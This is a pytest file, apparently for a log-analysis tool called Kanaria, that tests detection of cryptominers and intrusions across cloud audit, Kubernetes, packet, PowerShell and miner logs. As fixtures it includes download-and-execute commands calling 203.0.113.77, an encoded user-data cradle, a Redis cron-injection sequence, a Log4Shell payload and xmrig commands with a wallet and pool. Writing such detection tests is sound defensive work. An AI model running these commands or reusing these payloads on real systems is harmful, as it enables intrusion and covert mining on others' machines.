"""Records as people have them who did not write Kanaria: of clouds, clusters, sensors, services, miners and forums.

Each input is one kind. The run has to hear what it says, of the right machine, in words that fit what the record is, and
as loud as it deserves; its neighbour without a miner has to stay silent.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.app.running import Kanaria

WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
POOL = "pool.supportxmr.com"
LOUDNESS = ("silent", "informational", "low", "medium", "high", "critical")


@dataclass(frozen=True)
class Said:
    """What a run says: how loud, by which rules, of which devices, and every word of it in both languages."""

    status: int
    severity: str
    rules: frozenset[str]
    devices: frozenset[str]
    advice: tuple[str, ...]
    words: str
    document: dict[str, Any]


def hear(kanaria: Kanaria, folder: Path, text: str, *options: str) -> Said:
    """``kanaria analyze`` over one input."""
    (folder / "input.log").write_text(text, encoding="utf-8")
    done = kanaria("analyze", "--format", "json", *options, "input.log")
    document = done.document
    incidents = document["incidents"]
    return Said(
        status=done.status,
        severity=max((one["severity"] for one in incidents), key=LOUDNESS.index, default="silent"),
        rules=frozenset(found["rule"] for one in incidents for found in one["findings"]),
        devices=frozenset(device for one in incidents for device in one["entities"]["devices"]),
        advice=tuple(item["id"] for one in incidents for item in one["recommendations"]),
        words="\n".join(
            json.dumps([one["title"], one["report"], one["story"]], ensure_ascii=False) for one in incidents
        ),
        document=document,
    )


def _json(*records: object) -> str:
    return "".join(json.dumps(record) + "\n" for record in records)


# -- the header of server actions (React2Shell) -----------------------------------------------------------------------

_CADDY = {
    "level": "info", "ts": 1764931200.12, "logger": "http.log.access.log0", "msg": "handled request",
    "request": {
        "remote_ip": "198.51.100.23", "remote_port": "41022", "proto": "HTTP/1.1", "method": "POST",
        "host": "shop.example.org", "uri": "/",
        "headers": {"Content-Type": ["multipart/form-data; boundary=x"], "Next-Action": ["x"], "User-Agent": ["Mozilla/5.0"]},
    },
    "duration": 0.021, "size": 212, "status": 500,
}  # fmt: skip


def _nginx(action: str, status: int, method: str = "POST") -> str:
    return _json({
        "time": "2025-12-05T10:12:44+00:00", "remote_addr": "198.51.100.23", "request": f"{method} / HTTP/1.1",
        "status": status, "body_bytes_sent": 212, "http_user_agent": "Mozilla/5.0", "http_next_action": action,
    })  # fmt: skip


def _waf(action: str) -> str:
    headers = [{"name": "Host", "value": "example.org"}, {"name": "Next-Action", "value": action}]
    return _json({
        "timestamp": 1764929564000, "formatVersion": 1, "webaclId": "a", "action": "ALLOW",
        "httpRequest": {"clientIp": "198.51.100.7", "headers": headers, "uri": "/", "args": "", "httpMethod": "POST"},
    })  # fmt: skip


FORGED = {
    "Caddy": (_json(_CADDY), "medium", 1),
    "nginx's JSON, 303": (_nginx("dontcare", 303), "medium", 1),
    "nginx's JSON, 404": (_nginx("x", 404), "informational", 0),
    "a format of one's own": (
        '198.51.100.23 - - [05/Dec/2025:10:12:44 +0000] "POST / HTTP/1.1" 500 212 "-" "Mozilla/5.0" "next-action: x"\n',
        "medium", 1,
    ),
    "a firewall in the cloud": (_waf("x"), "informational", 0),
    "Cloudflare": (
        _json({
            "ClientIP": "198.51.100.7", "ClientRequestMethod": "POST", "ClientRequestURI": "/", "EdgeResponseStatus": 500,
            "EdgeResponseBytes": 212, "RequestHeaders": {"next-action": "x"},
        }), "medium", 1,
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", FORGED)
def test_a_server_action_that_no_page_has(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    text, severity, status = FORGED[name]
    said = hear(kanaria, tmp_path, text)
    assert said.rules == {"web_react_action_forged"}
    assert (said.severity, said.status) == (severity, status)
    assert "CVE-2025-55182" in said.words and not said.devices


@pytest.mark.parametrize(
    "action", ["7f2a9c0d1e4b5a6f7c8d9e0f1a2b3c4d5e6f7a8b", "40f2a9c0d1e4b5a6f7c8d9e0f1a2b3c4d5e6f7a8b1", "-", "", "***"]
)
def test_pages_own_server_actions_are_everyday(kanaria: Kanaria, tmp_path: Path, action: str) -> None:
    said = hear(kanaria, tmp_path, _nginx(action, 303) + _nginx(action, 500))
    assert (said.severity, said.status) == ("silent", 0)


# -- orders to clouds and clusters ------------------------------------------------------------------------------------


def _trail(name: str, parameters: object, **more: object) -> dict[str, object]:
    return {
        "eventVersion": "1.08", "userIdentity": {"type": "IAMUser", "userName": "deploy", "accountId": "123456789012"},
        "eventTime": "2025-11-12T03:14:07Z", "eventSource": "ec2.amazonaws.com", "eventName": name,
        "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.44", "requestParameters": parameters,
        "recipientAccountId": "123456789012", **more,
    }  # fmt: skip


def _audit(image: str, arguments: list[str], code: int = 201) -> dict[str, object]:
    return {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "1", "stage": "ResponseComplete", "verb": "create",
        "requestURI": "/api/v1/namespaces/default/pods", "user": {"username": "system:anonymous"},
        "sourceIPs": ["198.51.100.44"], "objectRef": {"resource": "pods", "namespace": "default", "name": "kube-dns-x"},
        "responseStatus": {"code": code}, "requestReceivedTimestamp": "2025-12-05T10:12:44.000000Z",
        "requestObject": {"kind": "Pod", "spec": {"containers": [{"name": "a", "image": image, "args": arguments}]}},
    }  # fmt: skip


def _google(script: str) -> dict[str, object]:
    return {
        "protoPayload": {
            "authenticationInfo": {"principalEmail": "ci@example.org"}, "requestMetadata": {"callerIp": "198.51.100.44"},
            "serviceName": "compute.googleapis.com", "methodName": "v1.compute.instances.insert",
            "resourceName": "projects/x/zones/a/instances/vm-1",
            "request": {"metadata": {"items": [{"key": "startup-script", "value": script}]}},
        },
        "timestamp": "2025-12-05T10:12:44Z",
    }  # fmt: skip


def _azure(script: str) -> dict[str, object]:
    return {
        "time": "2025-12-05T10:12:44Z", "resourceId": "/SUBSCRIPTIONS/X/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM1",
        "operationName": "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", "category": "Administrative",
        "resultType": "Success", "callerIpAddress": "198.51.100.44", "identity": {"claims": {"name": "ops"}},
        "properties": {"requestbody": json.dumps({"commandId": "RunShellScript", "script": [script]})},
    }  # fmt: skip


CRADLE = "curl -s http://203.0.113.77/x.sh | bash"
ORDERS = {
    "SendCommand": (
        {"Records": [_trail("SendCommand", {"instanceIds": ["i-0abc"], "parameters": {"commands": [CRADLE]}})]},
        "cloud_order_delivers", "i-0abc",
    ),
    "SendCommand in two lines": (
        _trail("SendCommand", {"instanceIds": ["i-0abc"], "parameters": {"commands": ["wget http://203.0.113.77/x -O /tmp/x", "sh /tmp/x"]}}),
        "cloud_order_delivers", "i-0abc",
    ),
    "user data in base64": (
        {"Records": [_trail("RunInstances", {"userData": "IyEvYmluL2Jhc2gKY3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjc3L2Euc2ggfCBiYXNoCg=="})]},
        "cloud_order_delivers", "123456789012",
    ),
    "a task of a container service": (
        _trail("RegisterTaskDefinition", {"family": "web", "containerDefinitions": [{"image": "example/xmrig", "command": ["-o", f"{POOL}:443", "-u", WALLET]}]}),
        "cloud_order_miner", "web",
    ),
    "a pod": (_audit("docker.io/example/xmrig:6.21", ["-o", f"{POOL}:443", "--tls"]), "cloud_order_miner", "default/kube-dns-x"),
    "a pod that fetches": (_audit("alpine", ["sh", "-c", CRADLE]), "cloud_order_delivers", "default/kube-dns-x"),
    "a start-up script": (_google(f"#!/bin/bash\n{CRADLE}"), "cloud_order_delivers", "vm-1"),
    "a start-up script with a pool": (_google(f"./a -o {POOL}:443 -u {WALLET}"), "cloud_order_miner", "vm-1"),
    "a command run on a machine": (_azure(CRADLE), "cloud_order_delivers", "VM1"),
}  # fmt: skip


@pytest.mark.parametrize("name", ORDERS)
def test_an_order_of_an_account_is_no_web_request(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    record, rule, device = ORDERS[name]
    said = hear(kanaria, tmp_path, _json(record))
    assert rule in said.rules and said.devices == {device}
    assert (said.severity, said.status) == ("high", 1)
    assert "web request" not in said.words and "Webリクエスト" not in said.words
    assert "ask_whose_order" in said.advice and "isolate" not in said.advice
    assert "198.51.100.44" in json.dumps(said.document["incidents"][0]["findings"])


QUIET_ORDERS = {
    "calls that order nothing": {"Records": [_trail("DescribeInstances", {"instancesSet": {}})]},
    "an update": _trail("SendCommand", {"instanceIds": ["i-0abc"], "parameters": {"commands": ["yum -y update", "systemctl restart httpd"]}}),
    "an installer by name": _trail("SendCommand", {"parameters": {"commands": ["curl -fsSL https://get.example.org | sh"]}}),
    "a refused order": _trail("SendCommand", {"parameters": {"commands": [CRADLE]}}, errorCode="AccessDenied"),
    "a web server's pod": _audit("docker.io/library/nginx:1.27", []),
    "a pod that was refused": _audit("docker.io/example/xmrig:6.21", [], code=403),
    "a machine's own script": _google("#!/bin/bash\napt-get update"),
    "a look at a machine": _azure("uptime"),
}  # fmt: skip


@pytest.mark.parametrize("name", QUIET_ORDERS)
def test_everyday_orders_are_read_and_silent(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    said = hear(kanaria, tmp_path, _json(QUIET_ORDERS[name]))
    assert (said.severity, said.status) == ("silent", 0)
    assert said.document["inputs"][0]["unread"] == 0


# -- packets as tcpdump prints them -----------------------------------------------------------------------------------

_LOGIN = (
    f'{{"id":1,"jsonrpc":"2.0","method":"login","params":{{"login":"{WALLET}","pass":"x","agent":"XMRig/6.21.0"}}}}'
)
_JOB = '{"jsonrpc":"2.0","id":1,"error":null,"result":{"id":"a1","job":{"blob":"0e0e","job_id":"x","target":"b88d0600","algo":"rx/0"},"status":"OK"}}'
DUMPED = f"""10:11:12.123456 IP 192.168.1.23.51234 > 203.0.113.50.3333: Flags [P.], seq 1:{len(_LOGIN) + 2}, ack 1, win 502, options [nop,nop,TS val 1 ecr 2], length {len(_LOGIN) + 1}
E..1..@.@.........q2.".....{_LOGIN}

10:11:12.223456 IP 203.0.113.50.3333 > 192.168.1.23.51234: Flags [P.], seq 1:{len(_JOB) + 2}, ack 250, win 502, length {len(_JOB) + 1}
E.....@.@...q2......"......{_JOB}
"""
HEXADECIMAL = """tcpdump: verbose output suppressed, use -v[v]... for full protocol decode
listening on eth0, link-type EN10MB (Ethernet), snapshot length 262144 bytes
2025-11-12 10:11:12.123456 IP 10.0.0.15.51234 > 203.0.113.50.14444: Flags [P.], seq 1:137, ack 1, win 502, length 136
\t0x0000:  4500 0125 1c46 4000 4006 b1e6 0a00 000f  E..%.F@.@.......
\t0x0010:  cb00 7132 c822 386c 0000 0001 0000 0001  ..q2."8l........
\t0x0020:  5018 01f6 0000 0000 7b22 6964 223a 312c  P.......{"id":1,
\t0x0030:  226d 6574 686f 6422 3a22 6c6f 6769 6e22  "method":"login"
\t0x0040:  2c22 7061 7261 6d73 223a 7b22 6c6f 6769  ,"params":{"logi
\t0x0050:  6e22 3a22 3434 4146 4671 222c 2270 6173  n":"44AFFq","pas
\t0x0060:  7322 3a22 7822 2c22 6167 656e 7422 3a22  s":"x","agent":"
\t0x0070:  584d 5269 672f 362e 3231 2e30 227d 7d0a  XMRig/6.21.0"}}.
"""


@pytest.mark.parametrize("quoted", ["", "> "])
def test_a_login_and_its_job_in_printed_packets_are_mining(kanaria: Kanaria, tmp_path: Path, quoted: str) -> None:
    said = hear(
        kanaria,
        tmp_path,
        "".join(f"{quoted}{line}\n" for line in DUMPED.splitlines()),
        "--input-format",
        "tcpdump-text",
    )
    assert (said.severity, said.devices) == ("critical", {"192.168.1.23"})
    assert "monero_mining" in said.rules
    assert hear(kanaria, tmp_path, DUMPED).document["inputs"][0]["format"] == "tcpdump-text"


def test_packets_in_hexadecimal_and_a_login_nobody_answered(kanaria: Kanaria, tmp_path: Path) -> None:
    said = hear(kanaria, tmp_path, HEXADECIMAL)
    assert (said.severity, said.devices, said.rules) == ("medium", {"10.0.0.15"}, {"mining_message_unanswered"})


def test_ordinary_packets_are_read_and_silent(kanaria: Kanaria, tmp_path: Path) -> None:
    said = hear(kanaria, tmp_path, (
        "10:11:12.123456 IP 192.168.1.23.51234 > 203.0.113.50.443: Flags [P.], seq 1:250, ack 1, win 502, length 249\n"
        "10:11:12.223456 IP 203.0.113.50.443 > 192.168.1.23.51234: Flags [.], ack 250, win 502, length 0\n"
        "10:11:13.000000 ARP, Request who-has 192.168.1.1 tell 192.168.1.23, length 28\n"
    ))  # fmt: skip
    assert (said.severity, said.status, said.document["inputs"][0]["unread"]) == ("silent", 0, 0)


# -- scans that another sensor saw ------------------------------------------------------------------------------------

SCANS = {
    "Slips, by ports": "2025/11/12 10:11:12.000000: Src IP 10.0.2.15 . Detected vertical port scan to destination IP: 192.0.2.44 . 1030 different ports. Threat Level: high. (real time 2025-11-12 10:20:01)\n",
    "Slips, by addresses": "2025-11-12T15:42:20.000000+00:00 (TW 1): Src IP 10.0.2.15               . Detected Horizontal port scan to port 23/TCP. From 10.0.2.15 to 60 unique destination IPs. Total packets sent: 60. threat level: medium.\n",
    "IDEA": _json({
        "Format": "IDEA0", "DetectTime": "2025-11-12T10:11:12+00:00", "Category": ["Recon.Scanning"],
        "Source": [{"IP4": ["10.0.2.15"]}], "Target": [{"Port": [445]}],
        "Attach": [{"Content": "horizontal port scan to port 445/TCP. From 10.0.2.15 to 250 unique destination IPs."}],
    }),
}  # fmt: skip


@pytest.mark.parametrize("name", SCANS)
def test_a_scan_from_inside_that_a_sensor_saw(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    said = hear(kanaria, tmp_path, SCANS[name])
    assert (said.rules, said.devices) == ({"sensor_scan_alert"}, {"10.0.2.15"})
    assert (said.severity, said.status) == ("medium", 1)
    outside = hear(
        kanaria, tmp_path, SCANS[name].replace("10.0.2.15", "203.0.113.9").replace("192.0.2.44", "10.0.2.44")
    )
    assert outside.severity == "silent", "who scans from outside is one of thousands"


# -- texts that name miners, and what machines say --------------------------------------------------------------------

TEXTS = {
    "an article": "# XMRigの使い方\n\nXMRigはMoneroをマイニングするプログラムです。\n\n```\n./xmrig -o pool.supportxmr.com:443 -u YOUR_WALLET -k --tls\n```\n",
    "instructions": "How to mine Monero. Then run:\n\n    xmrig.exe -o pool.hashvault.pro:443 -u YOUR_WALLET_ADDRESS -p x --tls\n",
    "a commit": "commit 1a2b3c4d5e6f\nAuthor: Alice <alice@example.org>\n\n    Block coinhive.com and pool.supportxmr.com in the filter list\n",
    "a history with an installer": "sudo apt update\ncurl -fsSL https://get.example.com | sh\ndocker compose up -d\n",
    "a shell's history": ": 1764929564:0;curl -LsSf https://install.example.com/uv.sh | sh\n",
    "a build with an installer": (
        "2025-12-05T10:12:44.1234567Z ##[group]Run curl -LsSf https://install.example.com/uv.sh | sh\n"
        "2025-12-05T10:12:44.1234567Z shell: /usr/bin/bash -e {0}\n"
    ),
}  # fmt: skip
NOTHING = {
    "a list of names to block": "# Cryptomining\n0.0.0.0 coinhive.com\n0.0.0.0 pool.supportxmr.com\n",
    "rules of a sensor": 'alert dns $HOME_NET any -> any any (msg:"ET COINMINER Observed DNS Query"; dns.query; content:"pool.supportxmr.com"; sid:1;)\n',
    "mails from a marketplace": (
        "Dec  5 10:12:44 mx1 postfix/smtpd[812]: NOQUEUE: reject: RCPT from unknown[198.51.100.7]: 554 5.7.1 Relay access denied;"
        " from=<news@nicehash.com> to=<b@example.org> proto=ESMTP helo=<mail>\n"
        "Dec  5 10:12:45 mx1 postfix/cleanup[812]: A1: warning: header Subject: Your NiceHash mining pool payout from"
        " unknown[198.51.100.8]; from=<news@nicehash.com> to=<b@example.org> proto=ESMTP\n"
    ),
    "a reader of news, by a proxy": "".join(
        f"176492956{n}.123    186 192.168.1.20 TCP_TUNNEL/200 4523 CONNECT {host}:443 - HIER_DIRECT/203.0.113.50 -\n"
        for n, host in enumerate(("www.coindesk.com", "api.binance.com", "etherscan.io", "nicehash.com", "www.f2pool.com"))
    ),
    "a reader of news, by a resolver": "".join(
        f"Dec  5 10:12:4{n} dnsmasq[812]: query[A] {host} from 192.168.1.20\n"
        for n, host in enumerate(("www.coindesk.com", "api.coingecko.com", "www.nicehash.com", "xmrchain.net", "xmrig.com"))
    ),
    "a mirror of packages": (
        '198.51.100.7 - - [05/Dec/2025:10:12:44 +0000] "GET /debian/pool/main/x/xmrig/xmrig_6.18.0.orig.tar.gz HTTP/1.1" 200'
        ' 2400123 "-" "Debian APT-HTTP/1.3 (2.6.1)"\n'
    ),
    "PowerShell that installs and looks": _json(*(
        {"TimeCreated": "2025-12-05T10:12:44.123Z", "Id": 4104, "ProviderName": "Microsoft-Windows-PowerShell",
         "LogName": "Microsoft-Windows-PowerShell/Operational", "MachineName": "SV01",
         "Message": f"Creating Scriptblock text (1 of 1):\r\n{text}\r\n\r\nScriptBlock ID: 0f3c\r\nPath: "}
        for text in (
            "iex ((New-Object System.Net.WebClient).DownloadString('https://install.example.org/install.ps1'))",
            "Get-Process | Sort-Object CPU -Descending",
        )
    )),
    "a busy machine of science": (
        "  PID USER      PR  NI    VIRT    RES    SHR S  %CPU %MEM     TIME+ COMMAND\n"
        " 4021 alice     20   0 2442088 2.3g   3244 S 6398.7 29.4   1234:56 gmx_mpi mdrun -deffnm md\n"
    ),
    "a graphics card that learns": (
        "| NVIDIA-SMI 550.54.15   Driver Version: 550.54.15   CUDA Version: 12.4     |\n"
        "|  GPU   GI   CI        PID   Type   Process name                GPU Memory |\n"
        "|    0   N/A  N/A      4021      C   python3 train.py              35112MiB |\n"
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_about_miners_accuses_nobody(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    said = hear(kanaria, tmp_path, TEXTS[name])
    assert said.rules <= {"mining_named_in_text", "installer_named_in_text"}
    assert LOUDNESS.index(said.severity) <= LOUDNESS.index("low")
    assert said.status in (2, 3) and not said.devices, "it is no log, and the status says that it was only searched"
    assert "Compromised" not in said.words and "乗っ取" not in said.words


@pytest.mark.parametrize("name", NOTHING)
def test_neighbours_of_miners_are_silent(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    said = hear(kanaria, tmp_path, NOTHING[name])
    assert (said.severity, said.rules) == ("silent", frozenset())


_EVENT_VIEWER = """ログの名前:         Microsoft-Windows-PowerShell/Operational
ソース:           Microsoft-Windows-PowerShell
日付:            2025/12/05 19:12:44
イベント ID:       4104
タスクのカテゴリ:      リモート コマンドを実行します。
レベル:           警告
キーワード:         なし
ユーザー:          EXAMPLE\\svc
コンピューター:       SV01.example.local
説明:
Scriptblock テキストを作成しています (1 個中 1 個目):
$wc = New-Object System.Net.WebClient; $wc.DownloadFile("http://203.0.113.77/x.zip","C:\\Windows\\Temp\\x.zip"); Start-Process C:\\Windows\\Temp\\x.exe

ScriptBlock ID: 0f3c
パス:
"""
_DEFENDER = """Event[0]:
  ログの名前: Microsoft-Windows-Windows Defender/Operational
  ソース: Microsoft-Windows-Windows Defender
  日付: 2025-12-05T19:12:44.1230000Z
  イベント ID: 1116
  タスク: N/A
  レベル: 警告
  オペコード: 情報
  キーワード: N/A
  ユーザー: S-1-5-18
  ユーザー名: NT AUTHORITY\\SYSTEM
  コンピューター: PC01.example.local
  説明:
Microsoft Defender ウイルス対策 は、マルウェアを検出しました。
 \t名前: Trojan:Win64/CoinMiner.AMX!MTB
 \tID: 2147780199
 \t重大度: 重大
 \tカテゴリ: トロイの木馬
 \tパス: file:_C:\\Users\\Public\\svchost.exe
"""
MACHINES: dict[str, tuple[str, str, str, str | None]] = {
    "an event copied from the Event Viewer": (_EVENT_VIEWER, "high", "host_command_delivers", "SV01.example.local"),
    "a script block as JSON": (
        _json({
            "TimeCreated": "2025-12-05T10:12:44.123Z", "Id": 4104, "ProviderName": "Microsoft-Windows-PowerShell",
            "LogName": "Microsoft-Windows-PowerShell/Operational", "MachineName": "SV01.example.local",
            "Message": "Creating Scriptblock text (1 of 1):\r\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')\r\n\r\nScriptBlock ID: 0f3c",
        }), "high", "script_fetched_and_run", "SV01.example.local",
    ),
    "Defender's find, pasted without its page": (_DEFENDER, "high", "antivirus_mining_alert", "PC01.example.local"),
    "an application whose command failed": (
        " ⨯ Error: Command failed: wget http://203.0.113.99/nuts/x86 -O /tmp/a; chmod 777 /tmp/a; /tmp/a\n"
        "    at genericNodeError (node:internal/errors:983:15)\n", "high", "host_command_delivers", None,
    ),
    "a history with a set-up script": (
        f"#1764929564\ncurl -sL https://raw.example.com/setup.sh | LC_ALL=en_US.UTF-8 bash -s {WALLET}\n", "high",
        "host_command_delivers", None,
    ),
    "a downloader under another name": (
        "*/2 * * * * cd1 -fsSL http://203.0.113.77/cleanfda/init.sh | sh\n", "high", "host_command_delivers", None,
    ),
    "a program behind /proc": (
        "lrwxrwxrwx 1 root root 0 Dec  5 10:12 /proc/4021/exe -> '/tmp/.x/xmrig (deleted)'\n", "high",
        "miner_program_started", None,
    ),
    "htop": (
        "    PID USER       PRI  NI  VIRT   RES   SHR S  CPU%▽MEM%   TIME+  Command\n"
        "   4021 www-data    20   0 2384M 2355M  3244 S 398.0 29.4  5h31:22 ./xmrig --config=/tmp/.c.json\n", "high",
        "miner_program_started", None,
    ),
    "a graphics card": (
        "| NVIDIA-SMI 550.54.15   Driver Version: 550.54.15   CUDA Version: 12.4     |\n"
        "|  GPU   GI   CI        PID   Type   Process name                GPU Memory |\n"
        "|    0   N/A  N/A      4021      C   ./t-rex                        5112MiB |\n", "high",
        "miner_program_started", None,
    ),
    "docker ps": (
        "CONTAINER ID   IMAGE                  COMMAND                  CREATED        STATUS        PORTS     NAMES\n"
        '3ad7b26ded6d   example/xmrig:latest   "./xmrig --url poo…"     2 hours ago    Up 2 hours              cranky_bell\n'
        '1ad7b26ded6e   nginx:1.27             "/docker-entrypoint.…"   3 weeks ago    Up 3 weeks    80/tcp    web\n', "high",
        "miner_program_started", None,
    ),
    "a package that was installed": (
        "2025-12-05 10:12:44 install xmrig:amd64 <none> 6.18.0+dfsg-1\n", "medium", "mining_program_named_in_log", None,
    ),
    "a resolver nobody knows, JSON": (
        _json({"Status": 0, "Question": [{"name": POOL, "type": 1}]}), "medium", "mining_pool_named_in_log", None,
    ),
    "a resolver nobody knows, CSV": (
        f"timestamp,domain,type,client\n2025-12-05T10:12:44.123Z,{POOL},A,198.51.100.9\n", "medium",
        "mining_pool_named_in_log", None,
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", MACHINES)
def test_what_a_machine_says_of_itself_is_heard(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    text, severity, rule, device = MACHINES[name]
    said = hear(kanaria, tmp_path, text)
    assert rule in said.rules and said.status == 1
    assert (said.severity, said.devices) == (severity, frozenset({device} - {None}))


# -- miners' own words ------------------------------------------------------------------------------------------------

MINERS = {
    "BzMiner": (
        "BzMiner: v21.5.3\n10:12:44 [bzminer] Connecting to stratum+tcp://kas.2miners.com:2020\n"
        "10:13:05 [bzminer] kaspa: share accepted (41 ms)\n", "critical",
    ),
    "OneZeroMiner": (
        "10:12:44 INFO  OneZeroMiner 1.4.0\n10:12:45 INFO  Connected to pool dynex.herominers.com:1120\n"
        "10:13:05 INFO  GPU#0 share accepted, 41ms\n", "critical",
    ),
    "Rigel": (
        "[10:12:44] Rigel v1.19.1\n[10:12:44] Connected to kaspa.herominers.com:1206\n"
        "[10:13:05] [GPU0] Solution accepted (41 ms)\n", "critical",
    ),
    "NiceHash QuickMiner": (
        "[2025-12-05 10:12:44] [QuickMiner] Excavator started. Connecting to nhmp-ssl.eu.nicehash.com:443\n"
        "[2025-12-05 10:12:45] [Excavator] share accepted\n", "critical",
    ),
    "Braiins OS": ("2025-12-05T10:12:44.123Z INFO bosminer::client: Connected to stratum+tcp://stratum.braiins.com:3333\n", "high"),
    "Bitaxe": (
        "I (12345) stratum_task: Connecting to: stratum+tcp://public-pool.io:21496 (203.0.113.50)\n"
        'I (12400) stratum_api: tx: {"id": 1, "method": "mining.subscribe", "params": ["bitaxe/BM1366/v2.4.0"]}\n'
        "I (22600) stratum_task: message result accepted\n", "critical",
    ),
    "NerdMiner": (
        "*** Client: connecting to public-pool.io:21496\n"
        ">>> Completed 12 share(s), 3400 Khashes, avg. hashrate 55.21 KH/s\n", "high",
    ),
    "monerod that mines": ("2025-12-05 10:12:44.123\tI Mining has started with 4 threads, good luck!\n", "high"),
}  # fmt: skip


@pytest.mark.parametrize("name", MINERS)
def test_the_log_of_a_miner_is_one(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    text, severity = MINERS[name]
    said = hear(kanaria, tmp_path, text)
    assert said.rules & {"miner_own_log", "miner_own_log_idle"}
    assert (said.severity, said.status) == (severity, 1)
    assert said.document["inputs"][0]["format"] in ("miner-log", "mail") and "allow_if_yours" in said.advice


def test_a_node_that_only_follows_the_chain_is_no_miner(kanaria: Kanaria, tmp_path: Path) -> None:
    said = hear(
        kanaria,
        tmp_path,
        "2025-12-05 10:12:44.123\tI Synced 3290001/3290001\n2025-12-05 10:12:45.123\tI SYNCHRONIZED OK\n",
    )
    assert said.severity == "silent"


@pytest.mark.parametrize(("before", "after"), [("「", "」"), ("“", "”"), ("(", ")"), ("・", "")])
def test_a_line_in_quotes_of_a_text_has_its_sender(kanaria: Kanaria, tmp_path: Path, before: str, after: str) -> None:
    line = '198.51.100.7 - - [05/Dec/2025:10:12:44 +0900] "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 404 153 "-" "curl"'
    said = hear(kanaria, tmp_path, f"{before}{line}{after}\n")
    assert said.rules == {"web_log4shell"}
    assert said.document["incidents"][0]["entities"]["remotes"] == ["198.51.100.7"]


def test_a_connection_that_a_sensor_in_the_kernel_saw(kanaria: Kanaria, tmp_path: Path) -> None:
    said = hear(kanaria, tmp_path, _json({
        "process_kprobe": {
            "process": {"pid": 4021, "binary": "/tmp/.x/xmrig", "arguments": "-c config.json"}, "function_name": "tcp_connect",
            "args": [{"sock_arg": {"saddr": "10.0.0.5", "sport": 41022, "daddr": "203.0.113.50", "dport": 3333}}],
        },
        "node_name": "node-7", "time": "2025-11-12T10:11:12Z",
    }))  # fmt: skip
    assert (said.rules, said.severity, said.status) == ({"mining_program_connected"}, "high", 1)


def test_what_a_client_sends_to_a_database_is_no_web_request(kanaria: Kanaria, tmp_path: Path) -> None:
    said = hear(kanaria, tmp_path, (
        '1764929564.123456 [0 198.51.100.7:50000] "CONFIG" "SET" "dir" "/var/spool/cron/"\n'
        '1764929564.323456 [0 198.51.100.7:50000] "SET" "b" "\\n*/2 * * * * root cd1 -fsSL http://203.0.113.77/init.sh | sh\\n"\n'
    ))  # fmt: skip
    assert (said.rules, said.severity, said.status) == ({"web_download_cradle"}, "medium", 1)
    assert said.document["incidents"][0]["entities"]["remotes"] == ["198.51.100.7"]
    assert "web request" not in said.words and "Webリクエスト" not in said.words
